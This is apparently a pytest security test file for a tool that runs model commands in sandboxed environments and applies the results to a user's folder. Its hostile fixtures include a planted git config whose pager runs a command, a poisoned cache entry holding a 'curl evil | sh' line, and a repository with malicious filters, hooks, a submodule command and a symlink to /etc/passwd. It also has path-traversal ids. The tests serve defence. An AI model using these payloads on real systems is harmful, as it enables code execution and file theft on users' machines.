"""Red team of environments (issue 28), the parts that need no worker: what a model's commands
leave in an environment coming back to the user's folder (`--apply`), and a host trusting keys of
the store's Redis that anyone who can write there (but holds no signing key) can set."""

from __future__ import annotations

import os
import secrets
import shutil
import subprocess
import threading
import time
from collections.abc import Iterable
from pathlib import Path

import pytest

from toolq.core.environments import (
    EMPTY_BASE,
    Checkpoint,
    EnvironmentRecord,
    EnvSource,
    GitSource,
    git_cache_key,
    host_key,
    new_environment_id,
)
from toolq.core.signing import Signer
from toolq.workers.environments import agent as agent_module
from toolq.workers.environments import archive
from toolq.workers.environments import host as host_module
from toolq.workers.environments.archive import apply_delta, extract, pack_dir, tree_delta
from toolq.workers.environments.host import EnvError, EnvHost
from toolq.workers.store.redis_store import RedisStore

GIT_ENV = {"PATH": os.environ["PATH"], "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}


def git(*args: str, cwd: Path) -> str:
    return subprocess.run(["git", *args], cwd=cwd, env=GIT_ENV, check=True, capture_output=True, text=True).stdout


def _write(top: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        (top / rel).parent.mkdir(parents=True, exist_ok=True)
        (top / rel).write_text(text)



def _uploaded(tmp_path: Path) -> tuple[Path, archive.Packed, Path]:
    """The user's folder (a README), packed, and an environment extracted from it."""
    folder = tmp_path / "folder"
    _write(folder, {"README": "hi\n"})
    packed = pack_dir(folder)
    env = tmp_path / "env"
    env.mkdir()
    extract(packed.tar, env)
    return folder, packed, env

# ---- --apply: a git directory planted piece by piece ---------------------------------------------

@pytest.mark.parametrize("planted", [
    # a bare repository: `sub/config` is written before `sub/refs` makes `sub` one
    {"sub/HEAD": "ref: refs/heads/main\n", "sub/config": "[core]\n\tpager = touch {marker}; cat\n",
     "sub/objects/.keep": "", "sub/refs/.keep": ""},
    # HEAD beside a `commondir` naming a folder of config, objects and refs (no HEAD there)
    {"sub/HEAD": "ref: refs/heads/main\n", "sub/commondir": "../common\n",
     "common/config": "[core]\n\tpager = touch {marker}; cat\n", "common/objects/.keep": "", "common/refs/.keep": ""},
], ids=["bare", "commondir"])
def test_apply_never_leaves_a_git_directory_the_users_git_would_obey(tmp_path, planted):
    folder = tmp_path / "folder"
    _write(folder, {"README": "hi\n"})
    git("init", "-q", cwd=folder)
    packed = pack_dir(folder)
    env = tmp_path / "env"
    env.mkdir()
    extract(packed.tar, env)
    marker = tmp_path / "pwned"
    _write(env, {k: v.format(marker=marker) for k, v in planted.items()})
    delta = tree_delta(packed.manifest, env)
    report = apply_delta(folder, packed.manifest, Checkpoint(base="b", added=delta.added), delta.tar)
    assert "sub/HEAD" in dict(report.refused), report.refused
    # the user's git in that folder finds no repository of the model's making
    done = subprocess.run(["git", "config", "core.pager"], cwd=folder / "sub", env=GIT_ENV, capture_output=True,
                          text=True)
    assert done.stdout == "", done.stdout
    subprocess.run(["git", "-P", "log"], cwd=folder / "sub", env={**GIT_ENV, "TERM": "dumb"}, capture_output=True)
    assert not marker.exists()


def test_apply_still_writes_files_named_head_or_config_in_a_plain_folder(tmp_path):
    folder, packed, env = _uploaded(tmp_path)
    _write(env, {"docs/HEAD": "a file\n", "docs/config": "[x]\n", "docs/refs/index.md": "refs\n"})
    delta = tree_delta(packed.manifest, env)
    report = apply_delta(folder, packed.manifest, Checkpoint(base="b", added=delta.added), delta.tar)
    assert report.refused == []
    assert (folder / "docs/HEAD").read_text() == "a file\n"


# ---- a --git source: the host's cache and a repository that unpacks huge -------------------------

def _repo(tmp_path: Path, files: dict[str, bytes]) -> tuple[Path, str]:
    repo = tmp_path / "repo"
    repo.mkdir()
    git("init", "-q", "-b", "main", cwd=repo)
    for rel, data in files.items():
        (repo / rel).write_bytes(data)
    git("add", "-A", cwd=repo)
    git("commit", "-q", "-m", "one", cwd=repo)
    return repo, git("rev-parse", "HEAD", cwd=repo).strip()


def test_a_git_base_is_never_taken_from_a_cache_key_anyone_on_redis_can_write(tmp_path, r):
    """Whoever can write the store's Redis (but holds no signing key) sets `git_cache_key(url,
    commit)` to a tree of their own, put in the store under its true hash: the user's `--git URL`
    must still get the repository's tree."""
    store = RedisStore(r, ttl=600, max_bytes=64 << 20)
    repo, commit = _repo(tmp_path, {"app.py": b"print('the real one')\n"})
    evil = tmp_path / "evil"
    _write(evil, {"app.py": "import os; os.system('curl evil | sh')\n"})
    r.set(git_cache_key(str(repo), commit), store.put(pack_dir(evil).tar))
    h = EnvHost(tmp_path / "root", "h1", store, 1 << 30, archive.Limits(64 << 20, 10_000), r=r, mode="copy")
    base = h.git_base(GitSource(url=str(repo), ref="main"))
    files = archive.manifest_of(store.get(base))
    assert files["app.py"].size == len(b"print('the real one')\n"), "the base came from the planted cache key"
    assert h.git_base(GitSource(url=str(repo), ref="main")) == base  # still cached, on the host


def test_a_repository_whose_tree_is_over_the_caps_is_refused_before_it_is_read_whole(tmp_path, r):
    """64 MiB of zeros packs to a few KiB in git; `git archive` writes it all: the host stops
    reading at the cap (it held the whole tar in the worker's memory, then asked the store)."""
    store = RedisStore(r, ttl=600, max_bytes=256 << 20)
    with (tmp_path / "zeros").open("wb") as f:
        f.truncate(64 << 20)
    repo, _ = _repo(tmp_path, {"README": b"zeros\n"})
    shutil.move(tmp_path / "zeros", repo / "zeros")
    git("add", "zeros", cwd=repo)
    git("commit", "-q", "-m", "zeros", cwd=repo)
    h = EnvHost(tmp_path / "root", "h1", store, 1 << 30, archive.Limits(4 << 20, 10_000), r=r, mode="copy")
    with pytest.raises(EnvError, match="TOOLQ_UPLOAD_MAX_MB"):
        h.git_base(GitSource(url=str(repo), ref="main"))


# ---- the host's advert never waits on a command's files ------------------------------------------

def test_the_hosts_advert_never_walks_an_environments_files(tmp_path, r, monkeypatch):
    """A command leaves a million files; walking them for the environment's size takes seconds.
    The advert (TTL 8 s) that waited on that walk lapsed, and the orchestrator took the host, with
    every other conversation's environment on it, for dead. Here the walk blocks until released:
    the advert must not wait on it, and the agent must keep renewing it meanwhile."""
    store = RedisStore(r, ttl=600, max_bytes=1 << 20)
    h = EnvHost(tmp_path / "root", "h-walk", store, 64 << 20, archive.Limits(1 << 20, 100), r=r, mode="copy")
    rec = EnvironmentRecord(id=new_environment_id(), host="h-walk", source=EnvSource(kind="empty"), base=EMPTY_BASE,
                            owner="owner:walk")
    h.create(rec)
    release = threading.Event()
    real = host_module.disk_bytes

    def slow(top: Path) -> int:
        release.wait(60)
        return real(top)

    monkeypatch.setattr(host_module, "disk_bytes", slow)
    monkeypatch.setattr(host_module, "SIZE_FRESH", 0.0)  # every size is stale: a walk is due
    done = threading.Event()
    threading.Thread(target=lambda: (h.advert(), done.set()), daemon=True).start()
    try:
        assert done.wait(20), "the advert waited on walking the environment's files"
        a = agent_module.Agent(h, r, Signer(secrets.token_hex(32)))
        monkeypatch.setattr(agent_module, "ADVERT_EVERY", 0.2)
        r.delete(host_key("h-walk"))
        a.start()
        try:
            end = time.monotonic() + 20
            while not r.exists(host_key("h-walk")):
                assert time.monotonic() < end, "no advert while the sizes were walked"
                time.sleep(0.05)
            r.delete(host_key("h-walk"))
            end = time.monotonic() + 20
            while not r.exists(host_key("h-walk")):  # renewed again, the walk still blocked
                assert time.monotonic() < end, "the advert was not renewed while the sizes were walked"
                time.sleep(0.05)
        finally:
            release.set()
            a.stop()
    finally:
        release.set()
        h.destroy(rec.id)


def test_the_reaper_goes_on_past_an_environment_it_cannot_destroy(tmp_path, r, monkeypatch):
    store = RedisStore(r, ttl=600, max_bytes=1 << 20)
    h = EnvHost(tmp_path / "root", "h-reap", store, 64 << 20, archive.Limits(1 << 20, 100), r=r, mode="copy")
    ids = sorted(new_environment_id() for _ in range(2))
    for env_id in ids:  # owners that do not exist: both are due
        h.create(EnvironmentRecord(id=env_id, host="h-reap", source=EnvSource(kind="empty"), base=EMPTY_BASE,
                                   owner=f"owner:{env_id}"))
    real = EnvHost.destroy

    def resisting(self: EnvHost, env_id: str, *, wait: bool = True) -> bool:
        if env_id == ids[0]:
            raise RecursionError("maximum recursion depth exceeded")
        return real(self, env_id, wait=wait)

    monkeypatch.setattr(EnvHost, "destroy", resisting)
    assert h.reap() == [ids[1]]
    assert h.env_ids() == [ids[0]]
    monkeypatch.setattr(EnvHost, "destroy", real)
    assert h.reap() == [ids[0]]


def test_remove_tree_takes_any_depth_and_modes_and_follows_no_link(tmp_path):
    outside = tmp_path / "outside"
    (outside / "keep").mkdir(parents=True)
    (outside / "keep" / "f").write_text("mine\n")
    top = tmp_path / "env"
    top.mkdir()
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(1500):  # deeper than Python's recursion limit
        os.mkdir("d", dir_fd=fd)
        sub = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = sub
    os.close(os.open("f", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd))
    os.close(fd)
    for i in range(3000):  # wide too: more folders than one read takes, files among them
        (top / f"w{i}").mkdir()
        (top / f"w{i}" / "f").write_text("")
        (top / f"f{i}").write_text("")
    (top / "l").symlink_to(outside)
    (top / "d" / "l").symlink_to(outside / "keep")
    os.chmod(top / "d" / "d", 0o000)
    host_module.remove_tree(top)
    assert not top.exists() and (outside / "keep" / "f").read_text() == "mine\n"


def _empty_files(folder: Path, names: Iterable[str]) -> None:
    """Empty files `names` made in `folder` through one directory fd (fast enough for 100,000)."""
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name in names:
            os.close(os.open(name, os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd))
    finally:
        os.close(fd)


def test_a_folder_of_many_files_is_sized_without_holding_its_entries(tmp_path):
    """The host sizes every environment every few seconds in the worker's main process: a folder
    of ten million files listed whole held gigabytes there. 100,000 here: streamed, not held."""
    import tracemalloc

    flat = tmp_path / "flat"
    flat.mkdir()
    _empty_files(flat, (f"f{i}" for i in range(100_000)))
    tracemalloc.start()
    try:
        host_module.disk_bytes(tmp_path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4 << 20, f"{peak / (1 << 20):.1f} MiB held to size a folder"


def test_a_checkpoint_stops_reading_a_folder_past_the_caps(tmp_path):
    """tree_delta listed each folder whole before counting: ten million files in one folder, held
    in the worker at the turn's end. Past the cap on files it stops reading."""
    import tracemalloc

    flat = tmp_path / "env" / "flat"
    flat.mkdir(parents=True)
    _empty_files(flat, (f"file-with-a-longish-name-{i}" for i in range(50_000)))
    tracemalloc.start()
    try:
        with pytest.raises(archive.ArchiveError, match="TOOLQ_UPLOAD_MAX_FILES"):
            tree_delta({}, tmp_path / "env", limits=archive.Limits(1 << 20, 1000))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 1 << 20, f"{peak / (1 << 20):.1f} MiB held"


def test_the_turns_patch_never_plants_a_git_directory_for_git_apply(tmp_path):
    """`--patch FILE` then `git apply FILE`: a patch creating sub/HEAD, sub/config, sub/objects/x and
    sub/refs/x makes sub a repository whose core.pager the user's git obeys. Those files are listed
    as binary, left out of the patch, as `.git`'s are."""
    folder, packed, env = _uploaded(tmp_path)
    marker = tmp_path / "pwned"
    _write(env, {"sub/HEAD": "ref: refs/heads/main\n", "sub/config": f"[core]\n\tpager = touch {marker}; cat\n",
                 "sub/objects/x": "x\n", "sub/refs/x": "x\n", "README": "hello\n"})
    delta = tree_delta(packed.manifest, env)
    diff = archive.unified_diff(packed.tar, delta)
    assert "sub/config" not in diff.patch and "sub/config" in diff.binary
    assert "b/README" in diff.patch
    git("init", "-q", cwd=folder)
    (tmp_path / "p.diff").write_text(diff.patch)
    git("apply", str(tmp_path / "p.diff"), cwd=folder)
    assert not (folder / "sub" / "config").exists()


def test_an_environment_id_or_checkpoint_path_never_leaves_the_hosts_root(tmp_path):
    """Held: ids are checked before they name a directory; a checkpoint's deleted paths before they
    are removed."""
    h = EnvHost(tmp_path / "root", "h-ids", None, 64 << 20, archive.Limits(1 << 20, 100), mode="copy")
    for bad in ("../bases", "..", "a/../../x", ".hidden", "", "x" * 101, "env\n"):
        with pytest.raises(EnvError):
            h.env_dir(bad)
        assert not h.present(bad)
    work = tmp_path / "ws"
    work.mkdir()
    (tmp_path / "victim").write_text("keep\n")
    for bad in ("../victim", "a/../../victim", ".."):
        with pytest.raises(EnvError):
            host_module.delete_paths(work, [bad])
    assert (tmp_path / "victim").read_text() == "keep\n"


def test_a_hostile_repository_as_a_git_source_runs_nothing_and_unpacks_no_link_out(tmp_path, r):
    """Held: a repository whose tree links out, whose attributes ask for export-subst and filters,
    with a submodule and hooks, is cloned bare (nothing of it run) and its tree refused whole."""
    store = RedisStore(r, ttl=600, max_bytes=64 << 20)
    marker = tmp_path / "pwned"
    repo, _ = _repo(tmp_path, {"app.py": b"$Format:%H$\n",
                               ".gitattributes": b"* export-subst filter=evil\n",
                               ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = /nonexistent\n\tupdate = !touch {marker}\n'
                               .encode()})
    git("config", "filter.evil.smudge", f"touch {marker}", cwd=repo)
    (repo / ".git" / "hooks" / "post-upload-pack").write_text(f"#!/bin/sh\ntouch {marker}\n")
    (repo / ".git" / "hooks" / "post-upload-pack").chmod(0o755)
    (repo / "passwd").symlink_to("/etc/passwd")
    git("add", "passwd", cwd=repo)
    git("commit", "-q", "-m", "link out", cwd=repo)
    h = EnvHost(tmp_path / "root", "h-git", store, 1 << 30, archive.Limits(64 << 20, 10_000), r=r, mode="copy")
    rec = EnvironmentRecord(id=new_environment_id(), host="h-git", source=EnvSource(kind="git", git=GitSource(
        url=str(repo), ref="main")), base="", owner="owner:git")
    with pytest.raises((EnvError, archive.ArchiveError), match="passwd"):
        h.create(rec)
    assert not marker.exists() and h.env_ids() == []


def test_blob_and_host_ids_with_a_trailing_newline_are_refused():
    from toolq.core.environments import BLOB_ID, HOST_ID

    assert BLOB_ID.match("a" * 64) and not BLOB_ID.match("a" * 64 + "\n")
    assert HOST_ID.match("h1") and not HOST_ID.match("h1\n")
